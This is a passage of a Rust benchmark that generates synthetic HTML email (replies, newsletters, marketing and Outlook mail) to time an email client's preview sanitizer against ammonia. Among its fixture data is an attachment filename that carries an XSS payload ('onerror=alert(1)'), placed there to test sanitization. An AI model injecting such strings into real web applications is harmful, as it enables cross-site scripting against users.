//! Preview rendering on a generated corpus: for each message, what
//! `GET /api/v1/messages/{id}/preview` computes (`sanitize_html` with remote
//! images blocked, the `PreviewPart`, `render_document`, the link-token
//! substitution), beside a bare `ammonia::clean` of the same body, in the
//! same run, on one thread. Prints figures and PASS/MISS; asserts nothing.
//!
//! `cargo bench --bench preview -- [--messages 5000] [--large-share 0.02]
//!  [--seed 1] [--warmup 200] [--dump DIR]`
//!
//! The corpus is generated deterministically from the seed (rand's StdRng),
//! one message at a time (generation is not timed): replies with nested
//! quotes (Gmail, Apple Mail, Thunderbird, Outlook), newsletters (nested
//! tables, inline styles, a `<style>` head, cid logo, buttons), marketing mail
//! (dozens to hundreds of remote images, tracking links, `background`),
//! Outlook/Word HTML (`mso-` styles, conditional comments, `<o:p>`), and
//! hostile markup (script, event handlers, `javascript:` links, SVG/MathML
//! tricks, forms, deep nesting and unclosed formatting bombs). Typical mail is
//! 5–100 KB (log-uniform); about 2% is large, 1–5 MB (big newsletters, long
//! threads, report tables, inline `data:` images, image-heavy marketing).
//!
//! Targets (typical mail): p99 under 2 ms end to end, and at most 1.5× the
//! bare ammonia time (total time of the class). Large mail is also checked
//! against the server's render budget (`preview.render_budget_ms`, 2 s).
mod common;

use base64::Engine as _;
use common::pct;
use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, RngCore, SeedableRng};
use std::collections::HashMap;
use std::fmt::Write as _;
use std::hint::black_box;
use std::path::PathBuf;
use std::process::ExitCode;
use std::time::{Duration, Instant};
use switchboard::mail::document::{AttachmentLink, PreviewPart, human_size, render_document};
use switchboard::mail::preview::{RemoteImages, SanitizeOptions, sanitize_html};

const P99_TARGET_MS: f64 = 2.0;
const RATIO_TARGET: f64 = 1.5;
/// `preview.render_budget_ms` default: over it, the server shows text instead.
const RENDER_BUDGET_MS: f64 = 2000.0;
/// `preview.max_data_image_bytes` default.
const MAX_DATA_IMAGE_BYTES: usize = 128 * 1024;
/// As in src/http/preview.rs: stands for the link token in the document.
const TOKEN_MARK: &str = "__SB_LINK_TOKEN__";
const MB: f64 = 1_000_000.0;

// ---------------------------------------------------------------------------
// arguments

struct Args {
    messages: usize,
    large_share: f64,
    seed: u64,
    warmup: usize,
    dump: Option<PathBuf>,
    message: Option<usize>,
}

impl Args {
    fn parse() -> Result<Args, String> {
        let mut a = Args {
            messages: 5000,
            large_share: 0.02,
            seed: 1,
            warmup: 200,
            dump: None,
            message: None,
        };
        let mut it = std::env::args().skip(1);
        while let Some(arg) = it.next() {
            let (key, inline) = match arg.split_once('=') {
                Some((k, v)) => (k.to_string(), Some(v.to_string())),
                None => (arg.clone(), None),
            };
            let mut value = |name: &str| {
                inline
                    .clone()
                    .or_else(|| it.next())
                    .ok_or_else(|| format!("{name} needs a value"))
            };
            match key.as_str() {
                "--messages" => {
                    a.messages = value("--messages")?
                        .replace('_', "")
                        .parse()
                        .map_err(|e| format!("--messages: {e}"))?
                }
                "--large-share" => {
                    a.large_share = value("--large-share")?
                        .parse()
                        .map_err(|e| format!("--large-share: {e}"))?
                }
                "--seed" => {
                    a.seed = value("--seed")?
                        .parse()
                        .map_err(|e| format!("--seed: {e}"))?
                }
                "--warmup" => {
                    a.warmup = value("--warmup")?
                        .parse()
                        .map_err(|e| format!("--warmup: {e}"))?
                }
                "--dump" => a.dump = Some(PathBuf::from(value("--dump")?)),
                "--message" => {
                    a.message = Some(
                        value("--message")?
                            .parse()
                            .map_err(|e| format!("--message: {e}"))?,
                    )
                }
                "--bench" => {}
                "-h" | "--help" => {
                    println!(
                        "cargo bench --bench preview -- [--messages N] [--large-share F] \
                         [--seed S] [--warmup N] [--dump DIR] [--message N]\n\
                         --dump DIR writes the first 50 messages of each kind there (and measures as usual)\n\
                         --message N times message N of the corpus 20 times (and writes it to DIR with --dump)"
                    );
                    std::process::exit(0);
                }
                other => eprintln!("ignoring argument {other}"),
            }
        }
        if a.messages == 0 || !(0.0..=1.0).contains(&a.large_share) {
            return Err("--messages must be positive and --large-share within 0..1".into());
        }
        Ok(a)
    }
}

// ---------------------------------------------------------------------------
// corpus

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
enum Kind {
    Reply,
    Newsletter,
    Marketing,
    Outlook,
    Hostile,
    BigNewsletter,
    LongThread,
    Report,
    InlineImages,
    BigMarketing,
}

impl Kind {
    const ALL: [Kind; 10] = [
        Kind::Reply,
        Kind::Newsletter,
        Kind::Marketing,
        Kind::Outlook,
        Kind::Hostile,
        Kind::BigNewsletter,
        Kind::LongThread,
        Kind::Report,
        Kind::InlineImages,
        Kind::BigMarketing,
    ];

    fn name(self) -> &'static str {
        match self {
            Kind::Reply => "reply",
            Kind::Newsletter => "newsletter",
            Kind::Marketing => "marketing",
            Kind::Outlook => "outlook",
            Kind::Hostile => "hostile",
            Kind::BigNewsletter => "L newsletter",
            Kind::LongThread => "L thread",
            Kind::Report => "L report",
            Kind::InlineImages => "L data-img",
            Kind::BigMarketing => "L marketing",
        }
    }

    fn large(self) -> bool {
        matches!(
            self,
            Kind::BigNewsletter
                | Kind::LongThread
                | Kind::Report
                | Kind::InlineImages
                | Kind::BigMarketing
        )
    }
}

struct Att {
    filename: String,
    content_type: String,
    size: u64,
    content_id: Option<String>,
    inline: bool,
    part_index: usize,
}

/// One generated message: what `MessageDetail` holds for the preview.
struct Msg {
    id: String,
    kind: Kind,
    html: String,
    subject: String,
    from_name: Option<String>,
    from_address: String,
    to: Vec<(String, String)>,
    cc: Vec<(String, String)>,
    received_at: i64,
    attachments: Vec<Att>,
}

const WORDS: &[&str] = &[
    "order",
    "invoice",
    "delivery",
    "refund",
    "account",
    "password",
    "thanks",
    "please",
    "customer",
    "support",
    "the",
    "the",
    "the",
    "and",
    "and",
    "we",
    "your",
    "your",
    "for",
    "with",
    "this",
    "that",
    "will",
    "have",
    "been",
    "shipping",
    "tracking",
    "number",
    "package",
    "warehouse",
    "return",
    "label",
    "appointment",
    "update",
    "issue",
    "ticket",
    "a",
    "a",
    "to",
    "to",
    "of",
    "of",
    "in",
    "is",
    "it",
    "not",
    "yet",
    "still",
    "received",
    "payment",
    "card",
    "bank",
    "transfer",
    "subscription",
    "cancel",
    "renewal",
    "discount",
    "voucher",
    "code",
    "broken",
    "damaged",
    "replacement",
    "warranty",
    "manual",
    "Monday",
    "Friday",
    "tomorrow",
    "yesterday",
    "week",
    "résumé",
    "Grüße",
    "naïve",
    "café",
    "Ærø",
    "Zürich",
    "日本語",
    "привет",
    "€49.90",
    "#48213",
    "ASAP",
    "could",
    "would",
    "you",
    "me",
    "our",
    "team",
    "colleague",
    "address",
    "phone",
    "email",
];

const FIRST: &[&str] = &[
    "Anna", "Ben", "Chloé", "David", "Eva", "Farid", "Greta", "Hiro", "Ines", "Jonas", "Karin",
    "Luca", "Maja", "Noah", "Olga", "Pablo", "Rosa", "Sven", "Tanja", "Yusuf",
];
const LAST: &[&str] = &[
    "Meyer", "Schmidt", "O'Neill", "Dubois", "García", "Rossi", "Nowak", "Jensen", "Yamamoto",
    "Öztürk", "Smith", "Kowalski",
];
const DOMAINS: &[&str] = &[
    "example.com",
    "mail.example.org",
    "customer.example.net",
    "gmx.example",
    "outlook.example",
];

fn word(rng: &mut StdRng) -> &'static str {
    WORDS.choose(rng).copied().unwrap_or("word")
}

fn person(rng: &mut StdRng) -> (String, String) {
    let f = FIRST.choose(rng).copied().unwrap_or("Anna");
    let l = LAST.choose(rng).copied().unwrap_or("Meyer");
    let d = DOMAINS.choose(rng).copied().unwrap_or("example.com");
    let local: String = format!("{f}.{l}")
        .to_lowercase()
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || *c == '.')
        .collect();
    (format!("{f} {l}"), format!("{local}@{d}"))
}

fn hex(rng: &mut StdRng, n: usize) -> String {
    let mut b = vec![0u8; n.div_ceil(2)];
    rng.fill_bytes(&mut b);
    let mut s = hex::encode(b);
    s.truncate(n);
    s
}

fn token(rng: &mut StdRng, n: usize) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    (0..n)
        .map(|_| A[rng.random_range(0..A.len())] as char)
        .collect()
}

/// A sentence of escaped text, sometimes with an entity or a bare URL.
fn sentence(rng: &mut StdRng) -> String {
    let n = rng.random_range(5..18);
    let mut s = String::new();
    for i in 0..n {
        if i > 0 {
            s.push(' ');
        }
        let w = word(rng);
        if i == 0 {
            let mut c = w.chars();
            if let Some(f) = c.next() {
                s.extend(f.to_uppercase());
                s.push_str(c.as_str());
            }
        } else {
            s.push_str(w);
        }
        match rng.random_range(0..60) {
            0 => s.push_str(" &amp;"),
            1 => s.push_str("&nbsp;"),
            2 => s.push_str(" &lt;3"),
            3 => {
                let _ = write!(s, " https://www.example.com/help/{}", hex(rng, 8));
            }
            4 => s.push(','),
            _ => {}
        }
    }
    s.push_str(if rng.random_bool(0.1) { "?" } else { "." });
    s
}

fn para_text(rng: &mut StdRng) -> String {
    let n = rng.random_range(1..6);
    (0..n).map(|_| sentence(rng)).collect::<Vec<_>>().join(" ")
}

fn tracking_url(rng: &mut StdRng) -> String {
    let n = rng.random_range(60..260);
    format!(
        "https://click.em.shop-example.com/ls/click?upn={}&amp;utm_source=newsletter&amp;utm_medium=email&amp;utm_campaign=spring-{}",
        token(rng, n),
        rng.random_range(1..40)
    )
}

fn remote_src(rng: &mut StdRng) -> String {
    let host = [
        "cdn.shop-example.com",
        "images.mailer-example.net",
        "static.brand-example.org",
        "i.imgur-example.com",
    ]
    .choose(rng)
    .copied()
    .unwrap_or("cdn.example.com");
    let ext = ["jpg", "png", "gif", "webp"]
        .choose(rng)
        .copied()
        .unwrap_or("png");
    format!(
        "https://{host}/img/{}/{}x{}.{ext}?v={}",
        hex(rng, 16),
        rng.random_range(20..700),
        rng.random_range(20..500),
        rng.random_range(1..99999)
    )
}

fn remote_img(rng: &mut StdRng) -> String {
    let (w, h) = (rng.random_range(16..600), rng.random_range(16..400));
    format!(
        "<img src=\"{}\" width=\"{w}\" height=\"{h}\" alt=\"{}\" border=\"0\" style=\"display:block;border:0;outline:none;text-decoration:none;width:{w}px;height:auto;max-width:100%\">",
        remote_src(rng),
        word(rng)
    )
}

fn color(rng: &mut StdRng) -> String {
    format!("#{}", hex(rng, 6))
}

fn date_line(rng: &mut StdRng) -> String {
    let days = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"];
    let months = [
        "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
    ];
    format!(
        "{}, {} {} 2026 at {:02}:{:02}",
        days.choose(rng).copied().unwrap_or("Mon"),
        rng.random_range(1..29),
        months.choose(rng).copied().unwrap_or("Jan"),
        rng.random_range(0..24),
        rng.random_range(0..60)
    )
}

/// Log-uniform size in `lo..hi` bytes.
fn log_uniform(rng: &mut StdRng, lo: f64, hi: f64) -> usize {
    (lo.ln() + rng.random::<f64>() * (hi.ln() - lo.ln())).exp() as usize
}

fn generate(seed: u64, index: usize, large_share: f64) -> Msg {
    let mut rng = StdRng::seed_from_u64(seed ^ (index as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15));
    let large = rng.random_bool(large_share);
    let kind = if large {
        *[
            Kind::BigNewsletter,
            Kind::LongThread,
            Kind::Report,
            Kind::InlineImages,
            Kind::BigMarketing,
        ]
        .choose(&mut rng)
        .unwrap_or(&Kind::Report)
    } else {
        match rng.random_range(0..100) {
            0..35 => Kind::Reply,
            35..55 => Kind::Newsletter,
            55..75 => Kind::Marketing,
            75..90 => Kind::Outlook,
            _ => Kind::Hostile,
        }
    };
    let target = if large {
        rng.random_range(1_000_000..5_000_000)
    } else {
        log_uniform(&mut rng, 5_000.0, 100_000.0)
    };
    let (from_name, from_address) = person(&mut rng);
    let mut m = Msg {
        id: format!("msg_{}", hex(&mut rng, 20)),
        kind,
        html: String::with_capacity(target + 4096),
        subject: format!("Re: {} {}", sentence(&mut rng), kind.name()),
        from_name: rng.random_bool(0.9).then_some(from_name),
        from_address,
        to: vec![("Support".into(), "support@example.com".into())],
        cc: (0..rng.random_range(0..3))
            .map(|_| person(&mut rng))
            .collect(),
        received_at: 1_790_000_000_000 + rng.random_range(0..30_000_000_000i64),
        attachments: Vec::new(),
    };
    match kind {
        Kind::Reply | Kind::LongThread => gen_reply(&mut rng, target, &mut m),
        Kind::Newsletter | Kind::BigNewsletter => gen_newsletter(&mut rng, target, &mut m),
        Kind::Marketing | Kind::BigMarketing => gen_marketing(&mut rng, target, &mut m),
        Kind::Outlook => gen_outlook(&mut rng, target, &mut m),
        Kind::Hostile => gen_hostile(&mut rng, target, &mut m),
        Kind::Report => gen_report(&mut rng, target, &mut m),
        Kind::InlineImages => gen_inline_images(&mut rng, target, &mut m),
    }
    // Some mail has ordinary attachments too.
    for _ in 0..rng
        .random_range(0..3)
        .min(usize::from(rng.random_bool(0.3)) * 3)
    {
        let i = m.attachments.len() + 2;
        let (name, ct) = *[
            ("invoice.pdf", "application/pdf"),
            ("photo.jpg", "image/jpeg"),
            (
                "Bericht März.docx",
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ),
            ("\"><img src=x onerror=alert(1)>.txt", "text/plain"),
        ]
        .choose(&mut rng)
        .unwrap_or(&("file.bin", "application/octet-stream"));
        m.attachments.push(Att {
            filename: name.into(),
            content_type: ct.into(),
            size: rng.random_range(2_000..3_000_000),
            content_id: None,
            inline: false,
            part_index: i,
        });
    }
    m
}

fn cid_image(rng: &mut StdRng, m: &mut Msg, name: &str) -> String {
    let cid = format!("{name}.{}@mailer.example", hex(rng, 8));
    let part_index = m.attachments.len() + 2;
    m.attachments.push(Att {
        filename: format!("{name}.png"),
        content_type: "image/png".into(),
        size: rng.random_range(2_000..80_000),
        content_id: Some(format!("<{cid}>")),
        inline: true,
        part_index,
    });
    format!(
        "<img src=\"cid:{cid}\" width=\"120\" height=\"40\" alt=\"{name}\" style=\"display:block;border:0\">"
    )
}

/// Replies with the quoted history nested (Gmail, Apple Mail, Thunderbird)
/// or flat (Outlook's "-----Original Message-----").
fn gen_reply(rng: &mut StdRng, target: usize, m: &mut Msg) {
    let style = rng.random_range(0..4);
    let h = &mut m.html;
    match style {
        0 => h.push_str("<div dir=\"ltr\">"),
        1 => h.push_str(
            "<html><head><meta http-equiv=\"content-type\" content=\"text/html; charset=utf-8\"></head><body dir=\"auto\">",
        ),
        2 => h.push_str(
            "<!DOCTYPE html>\n<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\"></head><body><p>",
        ),
        _ => h.push_str(
            "<html><body><div style=\"font-family:Calibri,Arial,Helvetica,sans-serif;font-size:12pt;color:rgb(0,0,0)\">",
        ),
    }
    let max_depth = if target > 500_000 { 40 } else { 12 };
    let mut depth = 0;
    loop {
        let (name, email) = person(rng);
        let _ = write!(
            h,
            "<div>Hello {},</div><div><br></div>",
            FIRST.choose(rng).copied().unwrap_or("Anna")
        );
        for _ in 0..rng.random_range(1..5) {
            let _ = write!(h, "<div>{}</div><div><br></div>", para_text(rng));
        }
        if rng.random_bool(0.3) {
            h.push_str("<ul>");
            for _ in 0..rng.random_range(2..6) {
                let _ = write!(h, "<li>{}</li>", sentence(rng));
            }
            h.push_str("</ul>");
        }
        let _ = write!(
            h,
            "<div>{}</div><div>-- <br><div dir=\"ltr\" class=\"gmail_signature\"><b>{name}</b><br><span style=\"color:#888888;font-size:small\">{} | +49 30 1234 {}</span><br><a href=\"mailto:{email}\">{email}</a></div></div>",
            ["Best regards", "Thanks", "Cheers", "Viele Grüße"]
                .choose(rng)
                .copied()
                .unwrap_or("Thanks"),
            word(rng),
            rng.random_range(1000..9999),
        );
        if h.len() + depth * 14 >= target {
            break;
        }
        let (qn, qe) = person(rng);
        let when = date_line(rng);
        match style {
            0 => {
                let _ = write!(
                    h,
                    "<br><div class=\"gmail_quote\"><div dir=\"ltr\" class=\"gmail_attr\">On {when}, {qn} &lt;<a href=\"mailto:{qe}\">{qe}</a>&gt; wrote:<br></div><blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex\">"
                );
            }
            1 => {
                let _ = write!(
                    h,
                    "<div dir=\"ltr\"><br><blockquote type=\"cite\">On {when}, {qn} &lt;{qe}&gt; wrote:<br><br></blockquote></div><blockquote type=\"cite\"><div dir=\"ltr\">"
                );
            }
            2 => {
                let _ = write!(
                    h,
                    "</p><div class=\"moz-cite-prefix\">On {when}, {qn} wrote:<br></div><blockquote type=\"cite\" cite=\"mid:{}@{}\"><p>",
                    hex(rng, 24),
                    DOMAINS.choose(rng).copied().unwrap_or("example.com")
                );
            }
            _ => {
                let _ = write!(
                    h,
                    "<div id=\"appendonsend\"></div><hr style=\"display:inline-block;width:98%\" tabindex=\"-1\"><div id=\"divRplyFwdMsg\" dir=\"ltr\"><font face=\"Calibri, sans-serif\" style=\"font-size:11pt\" color=\"#000000\"><b>From:</b> {qn} &lt;{qe}&gt;<br><b>Sent:</b> {when}<br><b>To:</b> Support &lt;support@example.com&gt;<br><b>Subject:</b> {}</font><div>&nbsp;</div></div><div>",
                    sentence(rng)
                );
            }
        }
        depth += 1;
        if depth >= max_depth {
            while h.len() + depth * 14 < target {
                let _ = write!(h, "<p>{}</p>", para_text(rng));
            }
            break;
        }
    }
    for _ in 0..depth {
        h.push_str(match style {
            0 => "</blockquote></div>",
            1 => "</div></blockquote>",
            2 => "</p></blockquote>",
            _ => "</div>",
        });
    }
    h.push_str(match style {
        0 => "</div>",
        1 => "</body></html>",
        2 => "</p></body></html>",
        _ => "</div></body></html>",
    });
}

const NEWSLETTER_CSS: &str = "
body,table,td,a{-webkit-text-size-adjust:100%;-ms-text-size-adjust:100%}
table,td{mso-table-lspace:0pt;mso-table-rspace:0pt}
img{-ms-interpolation-mode:bicubic;border:0;height:auto;line-height:100%;outline:none;text-decoration:none}
a[x-apple-data-detectors]{color:inherit!important;text-decoration:none!important}
.preheader{display:none!important;visibility:hidden;opacity:0;color:transparent;height:0;width:0}
@media screen and (max-width:600px){
 .container{width:100%!important;max-width:100%!important}
 .stack{display:block!important;width:100%!important;max-width:100%!important}
 .hero img{width:100%!important;height:auto!important}
 .pad{padding-left:16px!important;padding-right:16px!important}
 h1{font-size:26px!important;line-height:32px!important}
}
@media (prefers-color-scheme:dark){.dark-bg{background-color:#1e1e1e!important}.dark-text{color:#eeeeee!important}}
@import url(https://fonts.example.com/css?family=Open+Sans);
";

fn button(rng: &mut StdRng, label: &str) -> String {
    let c = color(rng);
    format!(
        "<table role=\"presentation\" cellspacing=\"0\" cellpadding=\"0\" border=\"0\" align=\"center\" style=\"margin:auto\"><tr><td class=\"button-td\" bgcolor=\"{c}\" style=\"border-radius:4px;background:{c};text-align:center\"><a class=\"button-a\" href=\"{}\" target=\"_blank\" style=\"background:{c};border:1px solid {c};font-family:Helvetica,Arial,sans-serif;font-size:15px;line-height:15px;text-decoration:none;padding:13px 17px;color:#ffffff;display:block;border-radius:4px;font-weight:bold\">{label}</a></td></tr></table>",
        tracking_url(rng)
    )
}

/// Newsletters: nested layout tables with inline styles, a `<style>` head,
/// a cid logo, remote hero and product images, buttons, footer, pixel.
fn gen_newsletter(rng: &mut StdRng, target: usize, m: &mut Msg) {
    let logo = cid_image(rng, m, "logo");
    let bg = color(rng);
    let mut h = String::with_capacity(target + 4096);
    let _ = write!(
        h,
        "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Transitional//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd\">\n<html xmlns=\"http://www.w3.org/1999/xhtml\"><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=UTF-8\"><meta name=\"viewport\" content=\"width=device-width, initial-scale=1.0\"><title>{}</title><style type=\"text/css\">{NEWSLETTER_CSS}</style><!--[if mso]><style>table{{border-collapse:collapse}}</style><![endif]--></head>\n<body style=\"margin:0;padding:0;background-color:{bg}\" class=\"dark-bg\"><div class=\"preheader\" style=\"display:none;max-height:0;overflow:hidden;mso-hide:all\">{}&#847;&zwnj;&nbsp;&#847;&zwnj;&nbsp;</div><center style=\"width:100%;background-color:{bg}\"><table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" bgcolor=\"{bg}\"><tr><td align=\"center\" valign=\"top\" style=\"padding:20px 0\"><table role=\"presentation\" class=\"container\" width=\"600\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" style=\"width:600px;max-width:600px;background-color:#ffffff;border:1px solid #dddddd\">\n<tr><td class=\"pad\" style=\"padding:16px 24px;background-color:{};color:#ffffff;font-family:Arial,sans-serif;font-size:22px;font-weight:bold\">{logo}{}</td></tr>\n<tr><td class=\"hero\" style=\"padding:0\">{}</td></tr>\n",
        sentence(rng),
        sentence(rng),
        color(rng),
        word(rng),
        remote_img(rng),
    );
    let footer_reserve = 3_000;
    while h.len() + footer_reserve < target {
        match rng.random_range(0..6) {
            0 | 1 => {
                let _ = writeln!(
                    h,
                    "<tr><td class=\"pad dark-text\" style=\"padding:24px;font-family:Georgia,serif;color:#333333;font-size:16px;line-height:24px\"><h2 style=\"color:{};font-size:22px;line-height:28px;margin:0 0 12px 0;font-family:Arial,sans-serif\">{}</h2><p style=\"margin:0 0 12px 0\">{}</p><p style=\"margin:0 0 16px 0\">{}</p>{}</td></tr>",
                    color(rng),
                    sentence(rng),
                    para_text(rng),
                    para_text(rng),
                    button(rng, "Read more")
                );
            }
            2 => {
                h.push_str("<tr><td style=\"padding:0 24px 24px 24px\"><table role=\"presentation\" width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\"><tr>");
                for _ in 0..2 {
                    let _ = write!(
                        h,
                        "<td class=\"stack\" width=\"50%\" valign=\"top\" style=\"padding:8px;font-family:Arial,sans-serif;font-size:14px;color:#555555\"><a href=\"{}\" target=\"_blank\">{}</a><p style=\"margin:8px 0 4px 0;font-weight:bold;color:#222222\">{}</p><p style=\"margin:0 0 8px 0\"><s style=\"color:#999999\">€{}.99</s> <span style=\"color:#c0392b;font-size:18px\">€{}.49</span></p>{}</td>",
                        tracking_url(rng),
                        remote_img(rng),
                        sentence(rng),
                        rng.random_range(20..200),
                        rng.random_range(10..150),
                        button(rng, "Buy now")
                    );
                }
                h.push_str("</tr></table></td></tr>\n");
            }
            3 => {
                h.push_str("<tr><td style=\"padding:12px 24px\"><table role=\"presentation\" width=\"100%\" cellpadding=\"6\" cellspacing=\"0\" border=\"0\"><tr>");
                for _ in 0..3 {
                    let _ = write!(
                        h,
                        "<td width=\"33%\" align=\"center\" valign=\"top\" style=\"font-family:Arial,sans-serif;font-size:13px;color:#666666\">{}<br><strong>{}</strong><br>{}</td>",
                        remote_img(rng),
                        word(rng),
                        sentence(rng)
                    );
                }
                h.push_str("</tr></table></td></tr>\n");
            }
            4 => {
                let _ = writeln!(
                    h,
                    "<tr><td height=\"24\" style=\"font-size:24px;line-height:24px\">&nbsp;</td></tr><tr><td style=\"padding:0 24px\"><hr style=\"border:0;border-top:1px solid #eeeeee;margin:0\"></td></tr><tr><td style=\"padding:16px 24px;background-color:#f8f8f8;border-left:4px solid {};font-style:italic;font-family:Georgia,serif\">&ldquo;{}&rdquo;<br><span style=\"font-size:12px;color:#888\">— {}</span></td></tr>",
                    color(rng),
                    para_text(rng),
                    person(rng).0
                );
            }
            _ => {
                let _ = write!(
                    h,
                    "<tr><td style=\"padding:16px 24px\"><table width=\"100%\" cellpadding=\"4\" cellspacing=\"0\" border=\"0\" style=\"border-collapse:collapse;font-family:Arial,sans-serif;font-size:13px\"><tr><th align=\"left\" style=\"border-bottom:2px solid #333\">{}</th><th align=\"right\" style=\"border-bottom:2px solid #333\">{}</th></tr>",
                    word(rng),
                    word(rng)
                );
                for _ in 0..rng.random_range(3..10) {
                    let _ = write!(
                        h,
                        "<tr><td style=\"border-bottom:1px solid #eee\">{}</td><td align=\"right\" style=\"border-bottom:1px solid #eee\">€{}.{:02}</td></tr>",
                        sentence(rng),
                        rng.random_range(1..500),
                        rng.random_range(0..100)
                    );
                }
                h.push_str("</table></td></tr>\n");
            }
        }
    }
    let _ = write!(
        h,
        "<tr><td style=\"padding:24px;background-color:#333333;color:#bbbbbb;font-family:Arial,sans-serif;font-size:12px;line-height:18px;text-align:center\">",
    );
    for _ in 0..4 {
        let _ = write!(
            h,
            "<a href=\"{}\" style=\"display:inline-block;margin:0 4px\"><img src=\"{}\" width=\"24\" height=\"24\" alt=\"social\" style=\"border:0\"></a>",
            tracking_url(rng),
            remote_src(rng)
        );
    }
    let _ = write!(
        h,
        "<p>{}<br>Shop Example GmbH · Musterstraße 1 · 10115 Berlin</p><p><a href=\"{}\" style=\"color:#bbbbbb\">Unsubscribe</a> · <a href=\"{}\" style=\"color:#bbbbbb\">View in browser</a> · <a href=\"mailto:privacy@shop-example.com\" style=\"color:#bbbbbb\">Privacy</a></p></td></tr></table></td></tr></table></center><img src=\"https://t.shop-example.com/open.gif?u={}\" width=\"1\" height=\"1\" alt=\"\" style=\"display:block;width:1px;height:1px;border:0\"></body></html>",
        sentence(rng),
        tracking_url(rng),
        tracking_url(rng),
        token(rng, 40)
    );
    m.html = h;
}

/// Marketing: many remote images and tracking links, `background`
/// attributes and CSS, `font` and `center`.
fn gen_marketing(rng: &mut StdRng, target: usize, m: &mut Msg) {
    let mut h = String::with_capacity(target + 4096);
    let _ = write!(
        h,
        "<html><head><meta charset=\"utf-8\"><style>.tile{{width:33%}} td{{font-family:Verdana}}</style></head><body bgcolor=\"#ffffff\" style=\"margin:0\"><center><font face=\"Verdana, Arial\" size=\"1\" color=\"#999999\">{} <a href=\"{}\">View online</a></font><table width=\"640\" border=\"0\" cellpadding=\"0\" cellspacing=\"0\" background=\"{}\" style=\"background-image:url('{}');background-repeat:no-repeat\"><tr><td colspan=\"3\"><a href=\"{}\">{}</a></td></tr>",
        sentence(rng),
        tracking_url(rng),
        remote_src(rng),
        remote_src(rng),
        tracking_url(rng),
        remote_img(rng)
    );
    while h.len() + 2_000 < target {
        h.push_str("<tr>");
        for _ in 0..3 {
            let _ = write!(
                h,
                "<td class=\"tile\" width=\"213\" valign=\"top\" align=\"center\" background=\"{}\"><a href=\"{}\" target=\"_blank\">{}</a><br><font face=\"Verdana\" size=\"2\" color=\"{}\"><b>{}</b></font><br><font size=\"3\" color=\"#cc0000\">€{},{:02}</font><br><a href=\"{}\" style=\"color:#0066cc;text-decoration:underline\">{}</a>",
                remote_src(rng),
                tracking_url(rng),
                remote_img(rng),
                color(rng),
                sentence(rng),
                rng.random_range(5..300),
                rng.random_range(0..100),
                tracking_url(rng),
                ["Shop now »", "Details", "Add to basket", "Only today!"]
                    .choose(rng)
                    .copied()
                    .unwrap_or("Details")
            );
            if rng.random_bool(0.3) {
                let _ = write!(
                    h,
                    "<div style=\"background:url({}) no-repeat;height:20px\">&nbsp;</div>",
                    remote_src(rng)
                );
            }
            h.push_str("</td>");
        }
        h.push_str("</tr>\n");
        if rng.random_bool(0.2) {
            let _ = writeln!(
                h,
                "<tr><td colspan=\"3\" align=\"center\" style=\"padding:10px\"><a href=\"{}\">{}</a></td></tr>",
                tracking_url(rng),
                remote_img(rng)
            );
        }
    }
    h.push_str("</table><p><font size=\"1\">");
    for _ in 0..rng.random_range(2..8) {
        let _ = write!(h, "<a href=\"{}\">{}</a> | ", tracking_url(rng), word(rng));
    }
    h.push_str("</font></p>");
    for _ in 0..rng.random_range(1..8) {
        let _ = write!(
            h,
            "<img src=\"https://pixel.tracker-example.com/p.gif?c={}&amp;r={}\" width=\"1\" height=\"1\" border=\"0\">",
            token(rng, 32),
            rng.random_range(0..1_000_000)
        );
    }
    h.push_str("</center></body></html>");
    m.html = h;
}

/// Outlook / Word HTML: `mso-` styles, conditional comments, `<o:p>`,
/// unquoted and single-quoted attributes, flat quoted history.
fn gen_outlook(rng: &mut StdRng, target: usize, m: &mut Msg) {
    let mut h = String::with_capacity(target + 4096);
    h.push_str(
        "<html xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" xmlns:w=\"urn:schemas-microsoft-com:office:word\" xmlns:m=\"http://schemas.microsoft.com/office/2004/12/omml\" xmlns=\"http://www.w3.org/TR/REC-html40\"><head><meta http-equiv=Content-Type content=\"text/html; charset=utf-8\"><meta name=Generator content=\"Microsoft Word 15 (filtered medium)\"><!--[if !mso]><style>v\\:* {behavior:url(#default#VML);}\no\\:* {behavior:url(#default#VML);}\n</style><![endif]--><style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:\"Cambria Math\";\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\n@font-face\n\t{font-family:Calibri;\n\tpanose-1:2 15 5 2 2 2 4 3 2 4;}\n/* Style Definitions */\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:\"Calibri\",sans-serif;\n\tmso-fareast-language:EN-US;}\na:link, span.MsoHyperlink\n\t{mso-style-priority:99;\n\tcolor:#0563C1;\n\ttext-decoration:underline;}\nspan.E-MailFormatvorlage17\n\t{mso-style-type:personal-compose;\n\tfont-family:\"Calibri\",sans-serif;\n\tcolor:windowtext;}\n.MsoChpDefault\n\t{mso-style-type:export-only;\n\tfont-family:\"Calibri\",sans-serif;}\n@page WordSection1\n\t{size:612.0pt 792.0pt;\n\tmargin:70.85pt 70.85pt 2.0cm 70.85pt;}\ndiv.WordSection1\n\t{page:WordSection1;}\n--></style><!--[if gte mso 9]><xml>\n<o:shapedefaults v:ext=\"edit\" spidmax=\"1026\" />\n</xml><![endif]--><!--[if gte 